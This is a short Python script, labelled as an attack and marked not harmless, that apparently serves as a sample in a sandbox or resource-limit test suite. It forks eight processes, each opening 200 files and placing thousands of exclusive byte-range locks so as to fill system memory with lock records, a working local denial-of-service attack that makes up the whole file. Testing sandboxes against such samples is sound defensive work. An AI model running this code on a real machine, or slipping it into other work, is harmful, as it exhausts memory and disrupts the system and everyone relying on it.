# attack: so many locks of files that they fill the memory of the system
# harmless: no
import fcntl
import os
import time

for _ in range(8):
    if os.fork() == 0:
        break
files = [open(f"{os.getpid()}-{number}", "w") for number in range(200)]
try:
    for place in range(2000):
        for file in files:
            fcntl.lockf(file, fcntl.LOCK_EX, 1, 2 * place)
except OSError as error:
    print(place, error, flush=True)
time.sleep(60)
